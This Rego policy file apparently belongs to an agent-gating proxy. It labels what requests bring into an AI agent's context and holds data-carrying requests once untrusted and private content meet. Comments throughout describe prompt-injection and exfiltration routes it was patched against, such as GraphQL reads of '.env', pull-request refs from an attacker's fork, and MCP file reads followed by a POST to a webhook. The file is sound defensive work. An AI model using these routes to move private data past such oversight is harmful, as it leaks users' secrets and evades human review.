# Sessions, labels, the trifecta and browsing by link provenance.
#   What a response brings into the agent's context is labelled ("untrusted": content others can
#   write; "private": your data), per service operation and per host (config/data.json "labels").
#   Once a session holds both, every request that can carry data out is held for a human (or
#   denied): the lethal trifecta. Unknown hosts may be browsed only through links a response of
#   this session served, exactly as served ("browse").
package airlock

import rego.v1

# ---------------------------------------------------------------------------------------------
# Labels of this request's response.

default label_config := {}

label_config := config.labels

session_labels := object.get(input, ["session", "labels"], {})

# A recognized service operation: config labels.services.<name>.<label> lists operation globs
# ("issues.*", "messages.**") of reads (a write's answer echoes what the agent sent); GitHub
# repositories can be waived per label (owned_repos for "untrusted", public_repos for "private").
response_labels contains label if {
	input.service.effect == "read"
	some label, patterns in object.get(label_config, ["services", input.service.name], {})
	operation_listed(patterns, input.service.operation)
	not label_waived(label)
}

# A write's answer usually echoes what the agent sent, so the lists above name reads. Some answers
# carry more. A GraphQL mutation's selection set reads whatever a query could (GitHub's
# `addComment(…) { subject { repository { object(expression: "main:.env") { … } } } }`): it brings
# the labels the service lists for GraphQL queries. And the services in labels.write_answers return
# stored data from writes (Stripe's expand[], PostgREST's select= embedding other tables under
# return=representation): their writes bring the labels their operations are listed with.
response_labels contains label if {
	input.service.effect != "read"
	input.graphql
	some label, patterns in object.get(label_config, ["services", input.service.name], {})
	operation_listed(patterns, "graphql.query")
	not label_waived(label)
}

response_labels contains label if {
	input.service.effect != "read"
	write_answers_listed
	some label, patterns in object.get(label_config, ["services", input.service.name], {})
	operation_listed(patterns, input.service.operation)
	not label_waived(label)
}

write_answers_listed if input.service.name in object.get(label_config, "write_answers", [])

# An entry "service:operation-glob" names single writes whose answer is the object they change,
# as others wrote it: GitHub answers closing or assigning an issue, or editing a pull request's
# title, with the whole issue or pull request (its body and title by their author).
write_answers_listed if {
	some entry in object.get(label_config, "write_answers", [])
	is_string(entry)
	parts := split(entry, ":")
	count(parts) == 2
	parts[0] == input.service.name
	glob.match(lower(parts[1]), ["."], lower(input.service.operation)) # Slack reads method names in any case
}

# A release made with `generate_release_notes` answers with notes GitHub wrote from the merged pull
# requests' titles and their authors' names (twenty-sixth pass: it brought nothing): what a pull
# request read brings, waived only where the team alone opens pull requests (owned, not public).
response_labels contains label if {
	input.service.name == "github"
	input.service.operation == "repos.create_release"
	input.request.body.json.generate_release_notes == true
	some label, patterns in object.get(label_config, ["services", "github"], {})
	operation_listed(patterns, "pulls.list")
	not release_notes_waived(label)
}

release_notes_waived("untrusted") if {
	github_repo_listed("owned_repos")
	not github_repo_listed("public_repos")
}

# A write to a route Airlock does not name answers with content nobody described (OpenAI's
# `POST /v1/responses/{id}/cancel` returns the response, web search results included; a GitHub
# route the tables lack may return the issue or comment it changed): once a human lets it through,
# it brings what the service's unnamed reads bring.
response_labels contains label if {
	input.service.effect != "read"
	input.service.operation == "unknown"
	some label, patterns in object.get(label_config, ["services", input.service.name], {})
	operation_listed(patterns, "unknown")
	not label_waived(label)
}

# A method override the server may or may not honour makes the request two: the description names
# the riskier reading, which may be a write that brings nothing, while the server may run the other,
# a read whose answer is content (GitHub ignores `X-HTTP-Method-Override` and `_method`, so a GET of
# comments "overridden" to PATCH returns them; Google honours the header on a POST, so a POST
# overridden to GET returns the message). Once a human lets it through, it brings what the service's
# unnamed reads bring (both labels, usually), since which read it is cannot be said. So does a body
# servers read in more than one way (duplicate keys: `"tools": [web_search], "tools": []` to a model
# is a search to a server that keeps the first, `"previous_response_id"` twice a stored read): the
# description names the riskiest reading, whose labels need not be the other's.
read_otherwise if input.request.method_override

read_otherwise if body_ambiguous

response_labels contains label if {
	read_otherwise
	some label, patterns in object.get(label_config, ["services", input.service.name], {})
	operation_listed(patterns, "unknown")
	not label_waived(label)
}

response_labels contains label if {
	read_otherwise
	input.service
	not input.service.name in object.keys(object.get(label_config, "services", {}))
	some label in object.get(label_config, "unlisted_services", ["untrusted", "private"])
}

# A recognized service labels.services does not name (one added to Airlock: docs/policies.md, "Adding
# a service"): what its reads bring is unknown, so they bring labels.unlisted_services (by default
# both: the account's data, written by anyone). An entry naming the service, even {}, decides instead.
response_labels contains label if {
	input.service.effect == "read"
	not input.service.name in object.keys(object.get(label_config, "services", {}))
	some label in object.get(label_config, "unlisted_services", ["untrusted", "private"])
}

# GitHub serves a pull request or a commit as its diff or patch, and search results with the
# fragments of the files they matched, when the Accept header asks (application/vnd.github.diff,
# .patch, .text-match+json): file contents, which bring the labels a file read (repos.get_content) brings.
response_labels contains label if {
	input.service.name == "github"
	input.service.effect == "read"
	github_content_media
	some label, patterns in object.get(label_config, ["services", "github"], {})
	operation_listed(patterns, "repos.get_content")
	not label_waived(label)
}

# A Stripe answer with other objects expanded in it (`expand[]=data.customer` on any read or write)
# carries those objects whole: it brings the labels the service lists for the pseudo-operation
# `expanded` (by default those of customers, which strangers fill in at Checkout).
response_labels contains label if {
	input.service.name == "stripe"
	object.get(input.service.params, "expands", false) == true
	stripe_answer_read
	some label, patterns in object.get(label_config, ["services", "stripe"], {})
	operation_listed(patterns, "expanded")
}

stripe_answer_read if input.service.effect == "read"

stripe_answer_read if write_answers_listed

github_content_media if {
	some v in object.get(input.request, ["headers", "accept"], [])
	regex.match(`(?i)vnd\.github(?:\.[a-z0-9-]+)*\.(?:diff|patch|text-match)\b`, v)
}

# Whether `op` matches one of `patterns` (globs, "." separating segments): the same as
# `some p in patterns; glob.match(p, ["."], op)`, for a fraction of its cost, since glob.match
# costs about a microsecond a call in WebAssembly and a service lists dozens of patterns. When no
# pattern uses a glob feature but "*" (the usual case), a pattern without "*" matches only itself,
# and one with "*" only operations that begin with its text up to the first "*".
operation_listed(patterns, op) if {
	strings_only(patterns)
	operation_listed_by(regex.match(`[?\[\]{}\\]`, concat("", patterns)), patterns, op)
}

# A list that is not all strings (a configuration mistake) is matched pattern by pattern, so one bad
# entry cannot take the others' labels away.
operation_listed(patterns, op) if {
	not strings_only(patterns)
	some p in patterns
	glob.match(p, ["."], op)
}

strings_only(patterns) if {
	is_array(patterns)
	every p in patterns {
		is_string(p)
	}
}

# Some pattern uses "?", "[...]", "{a,b}" or a "\\" escape (or a stray "]" or "}"): each pattern is matched.
operation_listed_by(true, patterns, op) if {
	some p in patterns
	glob.match(p, ["."], op)
}

operation_listed_by(false, patterns, op) if op in patterns

operation_listed_by(false, patterns, op) if {
	some p in patterns
	contains(p, "*")
	startswith(op, split(p, "*")[0])
	glob.match(p, ["."], op)
}

label_waived("untrusted") if {
	github_repo_listed("owned_repos")
	not github_names_another_owner
	not github_open_to_anyone
}

# On a repository `public_repos` lists, anyone with a GitHub account opens issues and pull requests
# and comments on them: those are content others wrote, however much the code is your team's. So are
# the routes Airlock does not name there under issues, pull requests, discussions and comments
# (review comments, timelines, commit comments).
github_open_to_anyone if {
	github_repo_listed("public_repos")
	some p in ["issues.*", "pulls.*"]
	glob.match(p, ["."], input.service.operation)
}

github_open_to_anyone if {
	github_repo_listed("public_repos")
	input.service.operation == "unknown"
	host != "github.com" # its pages by their first segment (github_open_area): a file's path may hold any name
	some s in github_repo_rest
	lower(s) in {"issues", "pulls", "discussions", "comments"}
}

# The path after the repository: `/repos/{owner}/{repo}/…` on the API, `/{owner}/{repo}/…` on
# github.com, whose pages (`pull/7.patch`, `issues/3`, `actions/runs/5/job/6`, `wiki/Home`) show
# the same content as the API's routes (eleventh pass: only the API's paths were read).
# GitHub serves every `/repos/{owner}/{repo}/…` route as `/repositories/{id}/…` too (its own
# pagination links use it; describe/adapters/github.ts reads both): the rest after the id (twelfth
# pass: a release asset fetched by repository id escaped the download-count rule below).
github_repo_rest := array.slice(segs, 3, count(segs)) if {
	segs := object.get(input.request, "segments", [])
	count(segs) > 3
	lower(segs[0]) == "repos"
	host != "github.com"
} else := array.slice(segs, 2, count(segs)) if {
	segs := object.get(input.request, "segments", [])
	count(segs) > 2
	lower(segs[0]) == "repositories"
	host == "api.github.com"
} else := array.slice(segs, 2, count(segs)) if {
	host == "github.com"
	segs := object.get(input.request, "segments", [])
	count(segs) > 2
}

# A public repository's wiki is open to anyone with a GitHub account unless its owners restricted
# editing (GitHub's default: not restricted): its pages and its git repository (`acme/website.wiki`,
# which `owned_repos` "acme/*" names, `public_repos` "acme/website" does not) are content others
# wrote, and public.
github_public_wiki if {
	input.service.name == "github"
	repo := lower(input.service.params.repo)
	endswith(repo, ".wiki")
	full := concat("/", [lower(input.service.params.owner), trim_suffix(repo, ".wiki")])
	some p in object.get(label_config, "public_repos", [])
	glob.match(lower(p), ["/"], full)
}

github_open_to_anyone if github_public_wiki

# So is what a stranger's pull request, fork or star makes the repository show, named route or not:
# the CI a fork's pull request runs (its runs carry the pull request's title, branch and commit
# message; its jobs' logs, annotations, artifacts and caches what the stranger's code printed or
# wrote), the checks and statuses apps post for it, the event feed (comments and pull requests as
# their authors wrote them), and the forks (descriptions) and people (profiles) it lists. An agent
# asked to fix a failing build reads exactly these (eleventh pass: owned_repos waived them).
github_open_to_anyone if {
	github_repo_listed("public_repos")
	github_open_area(github_repo_rest)
}

github_open_area(rest) if lower(rest[0]) in {
	"forks", "events", "stargazers", "subscribers", "watchers", "check-runs", "check-suites",
	"statuses", "activity", "wiki", "network", "checks", "issues", "pull", "pulls", "discussions",
	"security-advisories", # private vulnerability reports: drafts anyone may submit
}

github_open_area(rest) if {
	lower(rest[0]) in {"commits", "commit", "actions"}
	some s in rest
	lower(s) in {
		"check-runs", "check-suites", "checks", "status", "statuses", "runs", "jobs", "job",
		"artifacts", "caches",
	}
}

# A comparison whose base or head names another owner's fork (`main...attacker:branch`,
# `attacker:repo:branch`) returns that fork's commits and patches: content a repository others own
# holds, whatever repository the path names.
github_names_another_owner if {
	input.service.operation == "repos.compare_commits"
	some side in regex.split(`\.\.\.?`, object.get(input.service.params, "basehead", ""))
	contains(side, ":")
	lower(split(side, ":")[0]) != lower(input.service.params.owner)
}

# A pull request's head or merge ref (`refs/pull/7/head`, `pull/7/merge`) names the commits its
# author pushed, from a fork anyone can open on a public repository: GitHub serves them under the
# base repository's path (`contents/x?ref=refs/pull/7/head`, `commits/pull/7/head`,
# `tarball/refs/pull/7/merge`, `compare/main...refs/pull/7/head`, `git/ref/pull/7/head`). Content others
# wrote, whatever repository the path names.
github_names_another_owner if {
	some v in github_ref_values
	regex.match(`(?i)(?:^|[/.:])pull/[0-9]+/(?:head|merge)(?:$|[/.~^@])`, v)
}

# A merge's `head` (POST /merges: `refs/pull/7/head` merges the pull request's commits, and its
# answer is the merge commit with their patches) too (twenty-sixth pass).
github_ref_values contains v if {
	some k in ["ref", "basehead", "sha", "commit_sha", "merge_head"]
	v := input.service.params[k]
	is_string(v)
}

# Refs of more than one segment reach routes Airlock does not name (operation `unknown`, still of the
# repository): the path itself.
github_ref_values contains input.request.path if input.service.name == "github"

github_ref_values contains v if {
	some k, vs in object.get(input.request, "query", {})
	lower(k) in {"ref", "sha", "head", "base"}
	some v in vs
}

# Slack's token checks answer with the token's own identity, which nobody else writes; every
# other Slack read (a namespace Slack adds later included) carries what members wrote.
label_waived("untrusted") if {
	input.service.name == "slack"
	input.service.operation in {"auth.test", "api.test"}
}

label_waived("private") if {
	github_repo_listed("public_repos")
	not github_admin_read
}

label_waived("private") if github_public_wiki

# What only a repository's maintainers see, public repository or not: its webhooks and deploy keys,
# secret and code scanning alerts (the leaked secrets themselves), Dependabot alerts, draft security
# advisories, Actions, Dependabot, Codespaces and environment secrets and variables (their values),
# invitations, collaborators and their permissions, traffic, branch protection, a source import's
# credentials. `public_repos` waives `private` for the public repository's content, not for these.
github_admin_areas := {
	"hooks", "keys", "invitations", "collaborators", "traffic", "secret-scanning", "code-scanning",
	"dependabot", "security-advisories", "private-vulnerability-reporting", "vulnerability-alerts",
	"codespaces", "autolinks", "interaction-limits", "import", "teams",
}

github_admin_read if {
	input.service.name == "github"
	segs := object.get(input.request, "segments", [])
	count(segs) > 3
	lower(segs[0]) == "repos"
	github_admin_path(array.slice(segs, 3, count(segs)))
}

# The same on github.com's pages (twelfth pass: a public repository's secret scanning alert,
# `github.com/acme/website/security/secret-scanning/3`, showed the leaked secret unlabelled, as did
# its settings and traffic pages): settings, security (but its policy), invitations, traffic.
github_admin_read if {
	input.service.name == "github"
	host == "github.com"
	github_web_admin_path(github_repo_rest)
}

github_web_admin_path(rest) if lower(rest[0]) in {"settings", "invitations"}

github_web_admin_path(rest) if {
	lower(rest[0]) == "security"
	count(rest) == 1
}

github_web_admin_path(rest) if {
	lower(rest[0]) == "security"
	count(rest) > 1
	lower(rest[1]) != "policy"
}

github_web_admin_path(rest) if {
	lower(rest[0]) in {"graphs", "pulse"}
	count(rest) > 1
	lower(rest[1]) == "traffic"
}

github_admin_path(rest) if lower(rest[0]) in github_admin_areas

github_admin_path(rest) if {
	lower(rest[0]) == "actions"
	count(rest) > 1
	lower(rest[1]) in {"secrets", "variables", "permissions", "runners", "oidc", "organization-secrets", "organization-variables"}
}

github_admin_path(rest) if {
	lower(rest[0]) in {"environments", "branches"}
	some s in rest
	lower(s) in {"secrets", "variables", "protection"}
}

label_waived("untrusted") if git_repo_listed("owned_repos")

label_waived("private") if git_repo_listed("public_repos")

# Git to other hosts (GitLab, Bitbucket, self-hosted): the lists name a repository with its host
# ("gitlab.com/acme/*", "git.acme.internal/**"), since an owner's name on one host is anyone's on another.
git_repo_listed(key) if {
	input.service.name == "git"
	full := lower(concat("/", [host, input.service.params.repository]))
	some p in object.get(label_config, key, [])
	glob.match(lower(p), ["/"], full)
}

github_repo_listed(key) if {
	input.service.name == "github"
	full := lower(concat("/", [input.service.params.owner, input.service.params.repo]))
	some p in object.get(label_config, key, [])
	glob.match(lower(p), ["/"], full)
}

# Model inference that asks the provider to fetch from or act on third parties (web search, MCP
# connectors): its answer carries what they returned.
response_labels contains label if {
	count(object.get(input, ["service", "params", "remote_tools"], [])) > 0
	some label in object.get(label_config, "remote_tools", ["untrusted"])
}

# A model call whose provider calls an MCP server or a connector itself (OpenAI `tools[].type` mcp
# with a `connector_id` — Gmail, Google Drive, Dropbox, SharePoint — or a `server_url`; Anthropic
# `mcp_servers`), with the authorization the body hands it, answers with what that account holds:
# your mail and files as well as what others wrote there. So do tools Airlock cannot see (batch
# members past the bound, a Realtime session sent as a part, a reusable prompt's stored tools).
# Both labels by default (labels.remote_accounts), as for a service `services` does not name: with
# `untrusted` only, an inbox summarized through a connector a human let through came in without
# `private`, and the session's next GET to any allowed host carried it out unasked.
remote_account_tools := {"mcp", "connector", "unread_members", "realtime_session_unread"}

reaches_remote_accounts if {
	some t in object.get(input, ["service", "params", "remote_tools"], [])
	t in remote_account_tools
}

reaches_remote_accounts if {
	some t in object.get(input, ["service", "params", "search_tools"], [])
	startswith(t, "prompt:")
}

response_labels contains label if {
	reaches_remote_accounts
	some label in object.get(label_config, "remote_accounts", ["untrusted", "private"])
}

# Model calls whose provider searches the web for the model (a web_search tool, web_search_options,
# a search or deep-research model): their answer carries search results and pages others wrote.
provider_searches if count(object.get(input, ["service", "params", "search_tools"], [])) > 0

response_labels contains label if {
	provider_searches
	some label in object.get(label_config, "remote_tools", ["untrusted"])
}

# A model call that brings content stored at the provider into the model's context answers with it
# (asked to, the model repeats it): a file by id, an earlier response or its items, a stored
# conversation, the files the file_search tool searches. params.stored_reads names the reads that
# return that content (files.content, responses.retrieve, conversations.retrieve,
# vector_stores.search …): the call brings the labels the service lists for them.
response_labels contains label if {
	some op in object.get(input, ["service", "params", "stored_reads"], [])
	some label, patterns in object.get(label_config, ["services", input.service.name], {})
	operation_listed(patterns, op)
}

# SQL anywhere reads your database.
response_labels contains label if {
	input.sql
	some label in object.get(label_config, "sql", ["private"])
}

# (Twenty-ninth pass) An MCP call that reads your stores through the server: SQL in a tool call's
# arguments (a database server's `query {sql: "SELECT …"}`, read in every dialect as `mcp[].sql`)
# answers with the rows, as SQL anywhere does; and a resource read of a file or a database by URI
# (`file:///home/dev/.env`, `postgres://…/customers`) answers with that file or table, your data
# (labels.authenticated), unless the server's own `labels` or a labels.hosts entry decide. The
# server's labels (`untrusted`) came alone, and after a grant for the tool or the read the next
# POST to a webhook carried the rows out.
response_labels contains label if {
	some c in mcp_calls
	count(object.get(c, ["sql", "statements"], [])) > 0
	some label in object.get(label_config, "sql", ["private"])
}

# ... and a tool call that reads a file by path (the reference filesystem server's `read_file`,
# `read_text_file`, `read_multiple_files`, `list_directory`, `search_files`, `directory_tree`: their
# `path`/`paths` are your files, relative to the folders it serves; a tool named otherwise with a
# `file_path`, `filepath`, `filename`, `directory`): its answer is that file (twenty-ninth pass: a
# read-only tool's answer came in `untrusted` only).
mcp_path_arguments := {"path", "paths", "file", "files", "file_path", "filepath", "filename", "file_name", "directory", "dir", "folder"}

response_labels contains label if {
	authenticated_labels_apply
	some c in mcp_calls
	c.method == "tools/call"
	args := object.get(c, "arguments", {})
	is_object(args)
	count(args) <= 256
	some name, v in args
	lower(name) in mcp_path_arguments
	mcp_path_value(v)
	some label in object.get(label_config, "authenticated", ["private"])
}

mcp_path_value(v) if {
	is_string(v)
	v != ""
}

mcp_path_value(v) if {
	is_array(v)
	some x in v
	is_string(x)
}

mcp_store_schemes := {
	"file", "postgres", "postgresql", "mysql", "mariadb", "sqlite", "sqlite3", "mongodb", "mongodb+srv",
	"redis", "rediss", "s3", "gs", "git", "ssh", "sftp", "smb", "ftp", "db",
}

response_labels contains label if {
	authenticated_labels_apply
	some c in mcp_calls
	c.method in {"resources/read", "resources/subscribe"}
	scheme := lower(split(object.get(c, "uri", ""), ":")[0])
	scheme in mcp_store_schemes
	some label in object.get(label_config, "authenticated", ["private"])
}

# MCP servers: their own "labels" entry, else labels.mcp. Every request to the server, not only a
# JSON-RPC call: its transport stream (GET) carries what the server sends on its own (requests,
# notifications) and, with the older HTTP+SSE transport, the results of every call.
response_labels contains label if {
	mcp_host_allowed
	some label in object.get(mcp_server, "labels", object.get(label_config, "mcp", ["untrusted"]))
}

# Plain hosts (no service): the first labels.hosts entry naming the host, else labels.presets
# for package registries, else labels.other_hosts (web pages: "untrusted"). Whatever the body: a
# JSON-RPC body (an MCP read, which mcp.read lets through to any allowed host) to a host that is
# no configured MCP server is answered by that host as any request is.
#   The most specific entry wins: the host itself, else the longest "*." pattern that matches (an
#   object's keys have no order a user wrote, and `{"*.acme.dev": [], "wiki.acme.dev": ["untrusted"]}`
#   means the wiki, which anyone edits, is untrusted).
host_label_entries := object.get(label_config, "hosts", {})

matching_host_labels := [ls] if {
	ls := host_label_entries[host]
} else := [ls] if {
	ls := host_label_entries[input.request.host_unicode]
} else := [host_label_entries[p]] if {
	wild := [q | some q, _ in host_label_entries; startswith(q, "*."); host_matches(q, host)]
	count(wild) > 0
	longest := max([count(q) | some q in wild])
	some p in wild
	count(p) == longest
} else := [ls] if {
	# An entry spelled otherwise (letters in upper case, a scheme, a port, a path, a trailing dot)
	# names the same host: it matched nothing, and a wiki labelled ["private"] came in as a page.
	ls := [l | some k, v in host_label_entries; spelled_otherwise(k); host_key_names(label_host_key(k)); some l in v]
	count(ls) > 0
} else := []

spelled_otherwise(k) if k != lower(k)

spelled_otherwise(k) if contains(k, ":")

spelled_otherwise(k) if contains(k, "/")

spelled_otherwise(k) if endswith(k, ".")

# Written in Unicode: requests carry the name in punycode (`host_unicode` is its Unicode form).
spelled_otherwise(k) if regex.match(`[^\x00-\x7f]`, k)

label_host_key(k) := trim_suffix(split(split(without_scheme(lower(trim_space(k))), "/")[0], ":")[0], ".")

without_scheme(k) := k if not contains(k, "://")

without_scheme(k) := substring(k, indexof(k, "://") + 3, -1) if contains(k, "://")

host_key_names(k) if k == host

host_key_names(k) if {
	startswith(k, "*.")
	host_matches(k, host)
}

# A key written in Unicode names the host whose punycode labels read so (thirteenth pass: the
# twelfth left `wiki.bücher.example` naming no request host, so its labels never applied).
host_key_names(k) if k == input.request.host_unicode

host_key_names(k) if {
	startswith(k, "*.")
	host_matches(k, input.request.host_unicode)
}

host_labels_apply if {
	not input.service
	not mcp_host_allowed
}

response_labels contains label if {
	host_labels_apply
	count(matching_host_labels) > 0
	some label in matching_host_labels[0]
}

response_labels contains label if {
	host_labels_apply
	count(matching_host_labels) == 0
	preset_host_request
	some label in object.get(label_config, "presets", ["untrusted"])
}

response_labels contains label if {
	host_labels_apply
	count(matching_host_labels) == 0
	not preset_host_request
	not mcp_server
	some label in object.get(label_config, "other_hosts", ["untrusted"])
}

response_labels contains label if {
	browse_allowed
	some label in object.get(browse_conf, "labels", ["untrusted"])
}

# A request that has its host fetch another site (a reader's `/https://…`, a served reader URL, a
# scraping API's `{"url"}`, an MCP fetch tool) brings that site's page, as a followed link does,
# whatever the host's own labels say (seventeenth pass: with `labels.hosts: {"r.jina.ai": []}`,
# or an MCP server labelled `[private]`, the fetched page came in without `untrusted`, and a
# served reader URL went on without a human: no trifecta formed).
response_labels contains label if {
	fetches_other_site
	some label in object.get(browse_conf, "labels", ["untrusted"])
}

fetches_other_site if fetch_through

fetches_other_site if fetch_served_bare

fetches_other_site if {
	host_allowed
	count(mcp_fetching_tools) > 0
}

# A plain host, a package registry or an MCP server the agent authenticates to with credentials of
# its own (an Authorization header, the one curl makes of `user:pass@`, an API key header or query
# parameter) answers
# with what that account holds: an issue tracker's tickets, a wiki's pages, a registry's private
# packages, an MCP server's files and mail. Your data, whoever wrote it: labels.authenticated
# (default "private") besides the place's own, unless labels.hosts or the server's own `labels`
# say what it brings (a request without them is read as a page: "untrusted" only).
agent_credential_headers := {
	"authorization", "x-api-key", "api-key", "apikey", "x-auth-token", "private-token",
	"x-access-token", "x-goog-api-key", "x-github-token", "x-hasura-admin-secret", "x-hasura-access-key",
	# keys under names with no credential's word (Honeycomb's team key, Artifactory's API key, OVH's
	# application and consumer keys)
	"x-honeycomb-team", "x-jfrog-art-api", "x-ovh-application", "x-ovh-consumer",
}

agent_authenticates if {
	some name, _ in object.get(input.request, "headers", {})
	name in agent_credential_headers
}

# (Twenty-ninth pass) also a request signed or carrying a token under such a word: RFC 9421's
# `Signature`/`Signature-Input` (Mastodon's authorized fetch answers followers-only posts to a
# signed GET), WSO2's `X-JWT-Assertion`, a `X-Bearer`, a `X-Passcode`.
# Services name their key headers as they like (Shopify's `X-Shopify-Access-Token`, Datadog's
# `DD-API-KEY`, Figma's `X-Figma-Token`, Azure's `Ocp-Apim-Subscription-Key`, RapidAPI's
# `X-RapidAPI-Key`, GitLab CI's `JOB-TOKEN`, Vault's `X-Vault-Token`): a header whose name has a
# credential's word in it counts too (twelfth pass: a shop's orders read with its access token came
# in `untrusted` only, so no trifecta formed). Not a CSRF token (it rides with cookies, which do
# not count), nor the names protocols use for something else.
agent_authenticates if {
	some name, _ in object.get(input.request, "headers", {})
	not name in agent_credential_headers
	not name in not_credential_headers
	regex.match(`^(?:.*[-_.])?(?:token|tokens|key|keys|secret|secrets|password|passwd|passphrase|passcode|auth|authentication|authorization|credential|credentials|apikey|api-key|accesskey|signature|jwt|bearer)(?:[-_.].*)?$`, name)
	not regex.match(`(?:^|[-_.])(?:csrf|xsrf)(?:[-_.]|$)`, name)
	not regex.match(`(?:^|[-_.])auth[-_.]?(?:type|method|scheme|mode|source|provider)$`, name) # npm's `npm-auth-type: web` names how, not who
}

# ... also glued to the word before it (Pivotal Tracker's `X-TrackerToken`, Chatwork's
# `X-ChatWorkToken`, `X-MyApiKey`): thirteenth pass, read as a page (`untrusted` only). Not Django's
# `X-CSRFToken`.
agent_authenticates if {
	some name, _ in object.get(input.request, "headers", {})
	regex.match(`[a-z0-9](?:token|apikey|secret|password|passwd)$`, name)
	not regex.match(`csrf|xsrf`, name)
}

not_credential_headers := {"sec-websocket-key", "idempotency-key", "x-idempotency-key", "cookie", "set-cookie", "proxy-authorization"}

# A login cookie the agent brought (twenty-eighth pass): a cookie named as a session or credential
# (`JSESSIONID`, `_gitlab_session`, `auth_token` …) that no answer of this session set from the host
# (the proxy takes those out of `request.credential_cookies`: a page's own anonymous session cookie
# does not count). A session cookie copied from a browser signs the agent in as a token does: the
# tracker's tickets came in as a page, `untrusted` only, and the next GET carried them out.
agent_authenticates if count(object.get(input.request, "credential_cookies", [])) > 0

# A query parameter, form field or JSON member (three objects deep) named by a credential's words
# (`request.credential_params`, twenty-ninth pass): WooCommerce's `consumer_key`/`consumer_secret`,
# OAuth 1.0's `oauth_token`, DeepL's `auth_key`, HubSpot's `hapikey`, an `appSecret`. The exact
# lists here missed them, so a shop's orders read with its keys came in `untrusted` only and the
# next POST to a webhook went out. Not a cursor (`page_token`), a CSRF token or a `sort_key`.
agent_authenticates if count(object.get(input.request, "credential_params", [])) > 0

# A WebSocket's credential given as a subprotocol, where a browser cannot set a header (twenty-seventh
# pass: read as a page, `untrusted` only, while the socket answers as that account): Kubernetes'
# `base64url.bearer.authorization.k8s.io.<token>` (a pod's exec, attach and logs), AppSync's
# `header-<base64 of {"Authorization": …}>`, a JWT, or `access_token, <jwt>` as the list.
# Subprotocol names are short words (`v4.channel.k8s.io`, `graphql-transport-ws`, `wamp.2.json`):
# an entry of 40 characters or more, a JWT's start, or a credential's word as a word of it counts.
agent_authenticates if {
	some v in object.get(input.request, ["headers", "sec-websocket-protocol"], [])
	some entry in split(v, ",")
	subprotocol_credential(trim_space(entry))
}

subprotocol_credential(e) if count(e) >= 40

subprotocol_credential(e) if startswith(e, "eyJ")

subprotocol_credential(e) if regex.match(`(?i)(?:^|[-_.])(?:bearer|authorization|auth|token|access[-_]?token|jwt|api[-_]?key|secret|password)(?:[-_.]|$)`, e)

# The same credential in the query string (GitLab's `?private_token=`, OAuth's `?access_token=`,
# Google's and Firebase's `?key=` and `?auth=`, the signature and credential of a signed S3, GCS,
# CloudFront or Azure URL).
agent_credential_params := {
	"access_token", "api_key", "apikey", "api-key", "private_token", "auth_token", "token", "key", "auth",
	"client_secret", "password", "x-amz-credential", "x-amz-security-token", "x-amz-signature",
	"x-goog-credential", "x-goog-signature", "signature", "sig",
	# as services spell them in a query: NewsAPI's apiKey, Azure API Management's subscription-key,
	# Algolia's x-algolia-api-key, 3scale's user_key, OAuth's id and refresh tokens
	"accesstoken", "authtoken", "apitoken", "api_token", "access_key", "accesskey", "secret", "secret_key",
	"subscription-key", "subscription_key", "x-api-key", "x-algolia-api-key", "user_key", "app_key",
	"appkey", "session_token", "sessiontoken", "id_token", "refresh_token", "jwt", "passwd",
}

agent_authenticates if {
	some name, _ in object.get(input.request, "query", {})
	lower(name) in agent_credential_params
}

# ... and in a form, multipart or JSON body (Slack's Web API takes a form `token`).
agent_authenticates if {
	some name, _ in object.get(input.request.body, "form", {})
	lower(name) in agent_credential_params
}

agent_authenticates if {
	is_object(input.request.body.json)
	some name, _ in input.request.body.json
	lower(name) in agent_credential_params
}

# ... one level down too: a JSON-RPC call's named `params` (Random.org's `apiKey`), GraphQL
# `variables`, a login's `{"user": {"email", "password"}}`, each call of a batch (thirteenth pass:
# read as a page, `untrusted` only).
agent_authenticates if {
	is_object(input.request.body.json)
	json_few_members
	some inner in input.request.body.json
	credential_named_in(inner)
}

agent_authenticates if {
	is_array(input.request.body.json)
	json_few_members
	some call in input.request.body.json
	credential_named_in(call)
}

agent_authenticates if {
	is_array(input.request.body.json)
	json_few_members
	some call in input.request.body.json
	is_object(call)
	some inner in call
	credential_named_in(inner)
}

# ... and in an MCP tool call's arguments, or one level inside them (twenty-seventh pass: a server
# that takes the account's key as an argument, `{"name": "search_tickets", "arguments": {"api_key":
# …}}` or `{"auth": {"token": …}}`, answers as that account, but the key sat below the two levels
# read above: a read-only tool's tickets came in `untrusted` only, and the next POST carried them).
agent_authenticates if {
	some c in mcp_calls
	args := object.get(c, "arguments", {})
	is_object(args)
	count(args) <= 256
	credential_named_in(args)
}

agent_authenticates if {
	some c in mcp_calls
	args := object.get(c, "arguments", {})
	is_object(args)
	count(args) <= 256
	some inner in args
	credential_named_in(inner)
}

# A body of thousands of members (a bulk upload) is no call that authenticates: not walked, so a
# decision costs the same whatever its size (issue 20).
json_few_members if count(input.request.body.json) <= 256

credential_named_in(o) if {
	is_object(o)
	some name, _ in o
	lower(name) in agent_credential_params
}

authenticated_labels_apply if {
	host_labels_apply
	count(matching_host_labels) == 0
	not browse_allowed # a followed link is forwarded bare: none of the agent's headers reach the host
}

authenticated_labels_apply if {
	mcp_host_allowed
	not "labels" in object.keys(mcp_server)
}

response_labels contains label if {
	authenticated_labels_apply # cheap: most requests are to a service
	agent_authenticates
	not searched_with_key
	some label in object.get(label_config, "authenticated", ["private"])
}

# A read of a host `browse.sources` names (a search API: Brave's `X-Subscription-Token`, Tavily's
# `api_key`) answers with public pages others wrote, which the key only pays for: `untrusted`, not
# an account's data. With `private` as well, every keyed search completed the trifecta at once, and
# each result the agent then followed waited for a human (left open by the twelfth pass).
searched_with_key if {
	named_browse_source(host)
	reads_only
}

# A host of your own network answers with your organisation's data whether the agent authenticates
# or not: the network is the credential (a Grafana, Jenkins or wiki inside the VPN, reached through
# `--allow-private`). An address of a private range (10/8, 172.16/12, 192.168/16, CGNAT 100.64/10,
# link-local, IPv6 unique local and link-local), a name without a dot, or one under a suffix only
# private networks use brings labels.authenticated too (thirteenth pass: such a read came in as a
# web page, `untrusted` only, and no trifecta formed). Loopback is left out: the agent's own servers
# on this machine (name them under labels.hosts where they hold your data).
response_labels contains label if {
	internal_labels_apply
	internal_host
	some label in object.get(label_config, "authenticated", ["private"])
}

internal_labels_apply if authenticated_labels_apply

# A followed link to such a host too: it is forwarded bare, but the network still vouches for it.
internal_labels_apply if browse_allowed

internal_host if {
	not contains(host, ".")
	not contains(host, ":")
	host != "localhost"
}

